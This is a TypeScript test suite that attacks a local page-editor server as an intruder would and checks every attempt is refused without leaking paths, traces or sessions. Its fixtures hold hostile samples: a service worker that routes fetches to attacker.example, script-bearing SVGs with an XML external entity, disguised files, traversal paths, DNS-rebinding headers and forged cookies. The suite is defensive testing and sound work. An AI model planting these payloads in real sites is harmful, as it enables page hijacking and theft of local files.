// The editor server (`pages edit`) as an attacker would try it: a real server on 127.0.0.1 and a
// list of requests, each with the answer it must get. The attacker is a page in the same browser (a
// foreign Origin, a cross-site fetch, a domain rebound to 127.0.0.1), someone holding an old or
// forged address or cookie, or someone who could write files into public/ (a page, a script, an SVG
// with a script, a page named .png, a link out of the folder). Every answer must also be free of
// stack traces, file paths and any code or session.
import { mkdirSync, symlinkSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { projectRoot } from "../../runtime/server/index.ts";
import { sessionMessages } from "../../cli/edit/editor-session.ts";
import { startTestEditor, type Answer, type Sent, type TestEditor } from "../../cli/edit/editor-test-server.ts";

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const page = "<!doctype html><script>navigator.serviceWorker.register('/sw.js')</script>";
const script = "self.addEventListener('fetch', (event) => event.respondWith(fetch('https://attacker.example/')));";

let editor: TestEditor;
let cookie: string;
/** A server an SVG's references would reach, if the drawing followed them: it must hear nothing. */
let trap: Server;
let trapHits = 0;
const answers: Answer[] = [];
const printed = [vi.spyOn(console, "error"), vi.spyOn(console, "log")];

async function send(path: string, sent: Sent = {}): Promise<Answer> {
  const answer = await editor.send(path, sent);
  answers.push(answer);
  return answer;
}

beforeAll(async () => {
  trap = createServer((_, response) => (trapHits++, response.end()));
  await new Promise<void>((done) => trap.listen(0, "127.0.0.1", done));
  const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  editor = await startTestEditor({
    files: {
      "public/evil.html": page,
      "public/index.html": page,
      "public/sw.js": script,
      "public/images/disguised.png": page,
      "public/images/disguised.jpg": script,
      "public/images/evil.svg":
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='10' height='10' onload='alert(1)'>" +
        `<style>@import url("${trapUrl}/style.css");</style><script>alert(1)</script>` +
        `<image href='${trapUrl}/ping.png' width='10' height='10'/><image xlink:href='../../pages.json' width='10' height='10'/>` +
        `<use href='${trapUrl}/sprite.svg#a'/><rect width='10' height='10' fill='#c2410c'/></svg>`,
      "public/images/entity.svg":
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY file SYSTEM "../../pages.json">]>' +
        "<svg xmlns='http://www.w3.org/2000/svg' width='400' height='60'><text y='45'>&file;</text></svg>",
      "public/.env": "SECRET=1",
      "public/.git/config": "[core]",
      "outside/secret.svg": "<svg xmlns='http://www.w3.org/2000/svg' width='4' height='4'/>",
    },
  });
  mkdirSync(join(editor.folder, "public", "images"), { recursive: true });
  symlinkSync(join(editor.folder, "outside", "secret.svg"), join(editor.folder, "public", "images", "link.svg"));
  symlinkSync(join(editor.folder, "outside"), join(editor.folder, "public", "outside"));
  cookie = await editor.signIn();
});

afterAll(async () => {
  await editor.stop();
  trap.close();
  for (const spy of printed) spy.mockRestore();
});

interface Case {
  what: string;
  path: string;
  sent?: Sent;
  /** With the session cookie of a signed-in browser (the attacker has it only where said). */
  signedIn?: boolean;
  status: number;
  /** What the body says, when it is one of the editor's sentences. */
  error?: string;
}

function run(cases: readonly Case[]) {
  for (const { what, path, sent = {}, signedIn, status, error } of cases) {
    it(`${what}: ${status}`, async () => {
      const headers = { ...(signedIn ? { cookie } : {}), ...sent.headers };
      const answer = await send(path, { ...sent, headers });
      expect(answer.status).toBe(status);
      if (error !== undefined) expect(JSON.parse(answer.text)).toEqual({ error });
    });
  }
}

describe("who may ask", () => {
  const other = "http://evil.example";
  run([
    { what: "a page rebinding its own name to 127.0.0.1 (wrong Host)", path: "/", sent: { headers: { host: "evil.example" } }, status: 421 },
    {
      what: "the same, for the API, even with the session",
      path: "/api/document",
      sent: { headers: { host: "evil.example:80" } },
      signedIn: true,
      status: 421,
    },
    { what: "a Host with the right name and another port", path: "/", sent: { headers: { host: "127.0.0.1:1" } }, status: 421 },
    { what: "another site's page calling the API (Origin)", path: "/api/document", sent: { headers: { origin: other } }, signedIn: true, status: 403 },
    { what: "an Origin of null (a sandboxed or file page)", path: "/api/document", sent: { headers: { origin: "null" } }, signedIn: true, status: 403 },
    {
      what: "another site posting a save",
      path: "/api/document",
      sent: { method: "PUT", headers: { origin: other }, body: { document: {}, baseHash: "x" } },
      signedIn: true,
      status: 403,
    },
    { what: "a cross-site fetch (Sec-Fetch-Site)", path: "/api/document", sent: { headers: { "sec-fetch-site": "cross-site" } }, signedIn: true, status: 403 },
    {
      what: "a same-site fetch from a neighbouring host",
      path: "/api/document",
      sent: { headers: { "sec-fetch-site": "same-site" } },
      signedIn: true,
      status: 403,
    },
  ]);

  it("a code sent from another site is refused and still opens the editor from its own page", async () => {
    const code = editor.sessions.newCode();
    const body = { code };
    expect((await send("/api/session", { method: "POST", headers: { origin: "http://evil.example" }, body })).status).toBe(403);
    expect((await send("/api/session", { method: "POST", headers: { "sec-fetch-site": "cross-site" }, body })).status).toBe(403);
    expect((await send("/api/session", { method: "POST", headers: { origin: editor.origin }, body })).status).toBe(200);
  });
});

describe("sessions and one-time codes", () => {
  run([
    { what: "no cookie", path: "/api/document", status: 401, error: sessionMessages.signedOut },
    { what: "no cookie, saving", path: "/api/document", sent: { method: "PUT", body: { document: {}, baseHash: "x" } }, status: 401 },
    { what: "no cookie, the lint that used to be asked of the server", path: "/api/lint", sent: { method: "POST", body: { text: "{}" } }, status: 401 },
    { what: "an unknown code", path: "/api/session", sent: { method: "POST", body: { code: "A".repeat(43) } }, status: 403, error: sessionMessages.unknown },
    { what: "a code that is not text", path: "/api/session", sent: { method: "POST", body: { code: ["x"] } }, status: 400 },
  ]);

  it("a forged or empty session, one from an earlier start, or one under another editor's name opens nothing", async () => {
    const forged = `${editor.cookieName}=${"x".repeat(43)}`;
    const earlier = await startTestEditor();
    const theirs = await earlier.signIn();
    await earlier.stop();
    const value = cookie.split("=")[1]!;
    for (const attempt of [
      forged,
      `${editor.cookieName}=`,
      `${editor.cookieName}=${theirs.split("=")[1]!}`,
      `pages-edit-${editor.port + 1}=${value}`,
      `${editor.cookieName}=${value}x`,
    ]) {
      expect((await send("/api/document", { headers: { cookie: attempt } })).status, attempt).toBe(401);
    }
  });

  it("a code works once: used again it is refused, even from the editor's own page", async () => {
    const code = editor.sessions.newCode();
    const exchange = () => send("/api/session", { method: "POST", headers: { origin: editor.origin }, body: { code } });
    expect((await exchange()).status).toBe(200);
    const again = await exchange();
    expect(again.status).toBe(403);
    expect(JSON.parse(again.text)).toEqual({ error: sessionMessages.used });
    expect(again.headers["set-cookie"]).toBeUndefined();
  });

  it("the code itself is no session", async () => {
    const code = editor.sessions.newCode();
    expect((await send("/api/document", { headers: { cookie: `${editor.cookieName}=${code}` } })).status).toBe(401);
  });
});

describe("a service worker, which would outlive the page and stand between it and the editor", () => {
  const asWorker = { headers: { "service-worker": "script" } };
  run(
    ["/", "/assets/index-abc.js", "/sw.js", "/public/sw.js", "/images/evil.svg", "/api/document", "/nothing.js"].map((path) => ({
      what: `fetched as a service worker: ${path}`,
      path,
      sent: asWorker,
      signedIn: true,
      status: 403,
    })),
  );
});

describe("files planted in public/", () => {
  run([
    { what: "an HTML page, at /public/", path: "/public/evil.html", status: 404 },
    { what: "an HTML page, at its site path", path: "/evil.html", status: 404 },
    { what: "an index.html, at /public/", path: "/public/index.html", status: 404 },
    { what: "a script", path: "/sw.js", status: 404 },
    { what: "a script, at /public/", path: "/public/sw.js", status: 404 },
    { what: "a page named .png", path: "/images/disguised.png", status: 404 },
    { what: "a script named .jpg", path: "/public/images/disguised.jpg", status: 404 },
    { what: "an SVG that reads a file into its text (an XML entity): not drawn", path: "/images/entity.svg", status: 404 },
  ]);

  it("the editor's own page stays the editor's, whatever public/index.html holds", async () => {
    expect((await send("/")).text).toBe("<!doctype html><title>editor</title>");
  });

  it("an SVG with scripts and outside references is drawn into a PNG, its references never followed", async () => {
    const answer = await send("/images/evil.svg");
    expect(answer.status).toBe(200);
    expect(answer.headers["content-type"]).toBe("image/png");
    expect(answer.body.subarray(0, 8).equals(PNG_SIGNATURE)).toBe(true);
    expect(answer.text).not.toContain("<script");
    expect(trapHits).toBe(0);
  });
});

describe("paths out of public/", () => {
  run(
    [
      "/public/../pages.json",
      "/public/%2e%2e/pages.json",
      "/public/..%2fpages.json",
      "/public/images/..%2f..%2f..%2fpages.json",
      "/images/../../pages.json",
      "/%2e%2e/pages.json",
      "/pages.json",
      "/public/.env",
      "/.env",
      "/public/.git/config",
      "/.git/config",
      "/public/images/link.svg",
      "/images/link.svg",
      "/public/outside/secret.svg",
      "/assets/../pages.json",
      "/assets/%2e%2e/%2e%2e/pages.json",
    ].map((path) => ({ what: path, path, status: 404 })),
  );
});

describe("the site's typefaces, for the text boxes and the preview", () => {
  it("serves the table's typefaces whole as fonts, under the policy that runs nothing", async () => {
    for (const id of ["noto-nastaliq-urdu", "noto-naskh-arabic"]) {
      const answer = await send(`/_fonts/${id}.woff2`);
      expect(answer.status).toBe(200);
      expect(answer.headers["content-type"]).toBe("font/woff2");
      expect(answer.body.subarray(0, 4).toString("latin1")).toBe("wOF2");
      expect(answer.headers["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; sandbox");
      expect(answer.headers["x-content-type-options"]).toBe("nosniff");
    }
  });

  run(
    [
      "/_fonts/noto-nastaliq-urdu.woff",
      "/_fonts/noto-nastaliq-urdu",
      "/_fonts/constructor.woff2",
      "/_fonts/__proto__.woff2",
      "/_fonts/none.woff2",
      "/_fonts/",
      "/_fonts/noto-nastaliq-urdu.woff2/x",
      "/_fonts/..%2fpackage.json",
      "/_fonts/%2e%2e%2f%2e%2e%2fpages.json",
      "/_fonts/..%2f..%2fnode_modules%2f@fontsource%2fnoto-nastaliq-urdu%2fpackage.json.woff2",
    ].map((path) => ({ what: path, path, status: 404 })),
  );
  run([{ what: "another method", path: "/_fonts/noto-nastaliq-urdu.woff2", sent: { method: "POST" }, status: 405 }]);
});

describe("made-up paths under each prefix: a 404, never a trace", () => {
  run([
    { what: "/api/ with the session", path: "/api/nothing", signedIn: true, status: 404, error: "No such request." },
    { what: "/api/ without it", path: "/api/nothing", status: 401 },
    { what: "/api/ itself", path: "/api/", signedIn: true, status: 404 },
    { what: "an API route with another method", path: "/api/document", sent: { method: "DELETE" }, signedIn: true, status: 404 },
    { what: "/assets/", path: "/assets/nothing.js", status: 404 },
    { what: "/assets/ itself", path: "/assets/", status: 404 },
    { what: "/public/", path: "/public/nothing.png", status: 404 },
    { what: "a site path", path: "/services/nothing", status: 404 },
    { what: "broken escapes", path: "/public/%E0%A4%A", status: 404 },
    { what: "a very long path", path: `/public/${"a".repeat(5000)}.png`, status: 404 },
  ]);
});

describe("headers", () => {
  it("the editor's page: its own scripts only, its own window, its own origin", async () => {
    const answer = await send("/");
    expect(answer.headers["cross-origin-opener-policy"]).toBe("same-origin");
    expect(answer.headers["cross-origin-resource-policy"]).toBe("same-origin");
    expect(answer.headers["x-content-type-options"]).toBe("nosniff");
    const policy = Object.fromEntries(
      String(answer.headers["content-security-policy"])
        .split(";")
        .map((directive) => directive.trim().split(" "))
        .map(([name, ...sources]) => [name, sources.join(" ")]),
    );
    expect(policy).toMatchObject({
      "default-src": "'none'",
      "script-src": `${editor.origin}/assets/`,
      "worker-src": `${editor.origin}/assets/`,
      "frame-ancestors": "'none'",
      "base-uri": "'none'",
      "form-action": "'none'",
    });
  });

  it("everything else, a picture or a refusal: nothing runs, nothing is sniffed, nothing is embedded elsewhere", async () => {
    for (const answer of [await send("/images/evil.svg"), await send("/api/document"), await send("/", { headers: { host: "evil.example" } })]) {
      expect(answer.headers["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'; sandbox");
      expect(answer.headers["x-content-type-options"]).toBe("nosniff");
      expect(answer.headers["cross-origin-resource-policy"]).toBe("same-origin");
    }
  });
});

describe("what the answers give away", () => {
  it("no stack trace, no file path, no code or session in any answer above, nor in the server's output", () => {
    const session = cookie.split("=")[1]!;
    for (const answer of answers) {
      const said = `${answer.text} ${JSON.stringify({ ...answer.headers, "set-cookie": undefined })}`;
      expect(said).not.toMatch(/\n\s+at |Error:/);
      expect(said).not.toContain(editor.folder);
      expect(said).not.toContain(projectRoot);
      expect(said).not.toContain(session);
    }
    expect(answers.length).toBeGreaterThan(50);
    for (const line of printed.flatMap((spy) => spy.mock.calls.flat() as unknown[])) expect(String(line)).not.toContain(session);
  });
});
